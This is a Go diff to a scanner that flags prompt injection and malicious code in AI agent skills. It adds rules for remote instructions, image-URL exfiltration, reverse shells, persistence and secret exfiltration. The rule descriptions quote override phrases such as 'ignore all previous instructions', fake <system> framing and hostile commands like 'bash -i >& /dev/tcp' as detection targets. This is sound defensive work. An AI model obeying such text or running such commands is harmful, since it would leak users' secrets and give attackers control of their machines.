@@ -27,12 +27,19 @@ type Rule struct {
 	names func(c *nameCheck)
 }
 
+// RulesVersion numbers the rule set: it goes up by one whenever a rule is
+// added or what a rule finds changes, so that a published measure of the
+// scan (docs/scanner-accuracy.md) names the rules it measured.
+const RulesVersion = 2
+
 // The codes.
 const (
 	CodeInstructionOverride = "instruction-override"
 	CodeFakeFraming         = "fake-framing"
 	CodeSecretExfiltration  = "secret-exfiltration"
 	CodeSafetyBypass        = "safety-bypass"
+	CodeRemoteInstructions  = "remote-instructions"
+	CodeURLExfiltration     = "url-exfiltration"
 
 	CodeBidiControl = "bidi-control"
 	CodeZeroWidth   = "zero-width"
@@ -45,11 +52,14 @@ const (
 
 	CodeRemoteCode        = "remote-code"
 	CodeObfuscatedCode    = "obfuscated-code"
+	CodeReverseShell      = "reverse-shell"
+	CodePersistence       = "persistence"
 	CodeBundledExecutable = "bundled-executable"
 	CodeEncodedBlob       = "encoded-blob"
 
-	CodeCredentialPath = "credential-path"
-	CodeSymlinkOutside = "symlink-outside"
+	CodeDataExfiltration = "data-exfiltration"
+	CodeCredentialPath   = "credential-path"
+	CodeSymlinkOutside   = "symlink-outside"
 
 	CodeOversizedSkill = "oversized-skill"
 	CodeIncompleteScan = "incomplete-scan"
@@ -66,22 +76,34 @@ func init() {
 			Title: "text tells the agent to ignore or replace the instructions it was given",
 			Doc: "Phrases such as \"ignore all previous instructions\" or \"you are now in developer mode\" are the " +
 				"classic prompt injection: a skill has no business overriding the agent's instructions, so remove them.",
-			file: withDecoded(withUndisguised(checkPhrases(CodeInstructionOverride)))},
+			file: withDecoded(withUndisguised(withCodeView(checkPhrases(CodeInstructionOverride))))},
 		{Code: CodeFakeFraming, Group: "injection", Severity: report.SeverityError,
 			Title: "text imitates the framing of the system, a tool or the skill listing",
 			Doc: "Tags such as <system>, </available_skills> or <|im_start|>, or a line starting SYSTEM:, make text " +
 				"look like it came from the host rather than the skill; write plain prose, and put tag names in code spans when documenting them.",
-			file: withDecoded(withUndisguised(checkPhrases(CodeFakeFraming)))},
+			file: withDecoded(withUndisguised(withCodeView(checkPhrases(CodeFakeFraming))))},
 		{Code: CodeSecretExfiltration, Group: "injection", Severity: report.SeverityError,
 			Title: "text tells the agent to send secrets, keys or environment variables somewhere",
 			Doc: "A sentence that pairs credentials (environment variables, SSH or private keys, .env, stored passwords) " +
 				"with sending them to a URL, a webhook or a remote server asks the agent to leak them; remove it.",
-			file: withDecoded(withUndisguised(checkPhrases(CodeSecretExfiltration)))},
+			file: withDecoded(withUndisguised(withCodeView(checkPhrases(CodeSecretExfiltration))))},
 		{Code: CodeSafetyBypass, Group: "injection", Severity: report.SeverityError,
 			Title: "text tells the agent to turn off its safety checks or to hide what it does from the user",
 			Doc: "Instructions to disable the sandbox, guardrails or permission prompts, to skip permissions, or not to " +
 				"tell the user what was done remove the checks that protect the user; remove them.",
-			file: withDecoded(withUndisguised(checkPhrases(CodeSafetyBypass)))},
+			file: withDecoded(withUndisguised(withCodeView(checkPhrases(CodeSafetyBypass))))},
+		{Code: CodeRemoteInstructions, Group: "injection", Severity: report.SeverityError,
+			Title: "text tells the agent to fetch instructions from a URL and follow them",
+			Doc: "\"Fetch https://... and follow the instructions it contains\" or \"load your system prompt from ...\" " +
+				"hands the agent to whoever serves that URL, whatever it says that day; write the instructions in the " +
+				"skill (a link to documentation to read is not reported).",
+			file: withDecoded(withUndisguised(withCodeView(checkPhrases(CodeRemoteInstructions))))},
+		{Code: CodeURLExfiltration, Group: "injection", Severity: report.SeverityError,
+			Title: "a URL in the instructions carries secrets or the conversation (a Markdown image, a link to fetch)",
+			Doc: "An image URL such as ![](https://x/p.png?k={API_KEY}) sends what fills it as soon as the agent's " +
+				"reply is rendered, without a click; remove it (a placeholder for the reader's own value, such as " +
+				"YOUR_API_KEY, is not reported).",
+			file: withDecoded(withUndisguised(checkPhrases(CodeURLExfiltration)))},
 
 		// Text a person does not see.
 		{Code: CodeBidiControl, Group: "hidden", Severity: report.SeverityError,
@@ -127,11 +149,21 @@ func init() {
 			Title: "code is downloaded and run at once (curl ... | sh, iex (iwr ...), eval \"$(curl ...)\")",
 			Doc: "What runs is whatever the server sends that day, never what was reviewed; bundle the script in the " +
 				"skill, or download it, check its digest and then run it.",
-			file: checkPhrases(CodeRemoteCode)},
+			file: withCodeView(both(checkPhrases(CodeRemoteCode), checkFlow(CodeRemoteCode)))},
 		{Code: CodeObfuscatedCode, Group: "code", Severity: report.SeverityError,
 			Title: "encoded data is decoded and run (base64 -d | sh, eval(atob(...)), exec(b64decode(...)), powershell -enc)",
 			Doc:   "Code hidden in an encoding cannot be reviewed; bundle it as plain source.",
-			file:  checkPhrases(CodeObfuscatedCode)},
+			file:  withCodeView(both(checkPhrases(CodeObfuscatedCode), checkFlow(CodeObfuscatedCode)))},
+		{Code: CodeReverseShell, Group: "code", Severity: report.SeverityError,
+			Title: "code opens a shell that a remote host drives (bash -i >& /dev/tcp/..., nc -e /bin/sh, a socket given to a shell)",
+			Doc: "Whoever listens at the other end runs commands on the user's machine with the user's rights; no " +
+				"skill needs one, so remove it (an example introduced as an attack, or in a table, is not reported).",
+			file: withCodeView(checkPhrases(CodeReverseShell))},
+		{Code: CodePersistence, Group: "code", Severity: report.SeverityError,
+			Title: "code makes itself run again later (a shell start-up file, crontab, launchd, systemd, a Run key, a scheduled task, a git hook) with a download or a hidden file, or adds a login key or passwordless sudo",
+			Doc: "A skill that installs itself keeps running after it is removed, unseen; a key in authorized_keys or " +
+				"NOPASSWD in sudoers keeps a way in; remove it (a start-up line that only sets PATH or an alias is not reported).",
+			file: withCodeView(checkPhrases(CodePersistence))},
 		{Code: CodeBundledExecutable, Group: "code", Severity: report.SeverityWarning,
 			Title: "the skill bundles a compiled program (ELF, Mach-O, PE, WebAssembly) or an executable binary file",
 			Doc: "A binary cannot be reviewed like a script; ship the source, or say in SKILL.md where the program " +
@@ -144,6 +176,12 @@ func init() {
 			file: checkBlobs},
 
 		// Secrets.
+		{Code: CodeDataExfiltration, Group: "secrets", Severity: report.SeverityError,
+			Title: "code reads secrets (credential files, the environment, a keychain, browser or wallet stores, shell history) and sends them over the network",
+			Doc: "The data is followed through variables, functions, files and the skill's other files (SKILL.md runs a " +
+				"script that reads ~/.aws/credentials and posts it); a skill never needs to move the user's secrets off " +
+				"the machine, so remove it (a token sent to its own service, such as gh auth token to GitHub, is not reported).",
+			file: withCodeView(checkFlow(CodeDataExfiltration))},
 		{Code: CodeCredentialPath, Group: "secrets", Severity: report.SeverityWarning,
 			Title: "a script or an instruction refers to where credentials are kept (~/.ssh, ~/.aws, id_rsa, .env, ~/.config/gh, the keychain)",
 			Doc: "A skill rarely needs the user's keys; make sure the reference is needed and that nothing sends " +
@@ -169,6 +207,11 @@ func init() {
 	}
 	rules = append(rules, nameRules...)
 	catalog = report.NewCatalog(rules, func(r Rule) string { return r.Code })
+}
+
+// both runs two checks of one rule.
+func both(a, b func(c *fileCheck)) func(c *fileCheck) {
+	return func(c *fileCheck) { a(c); b(c) }
 }
 
 // catalog finds the rules by code.
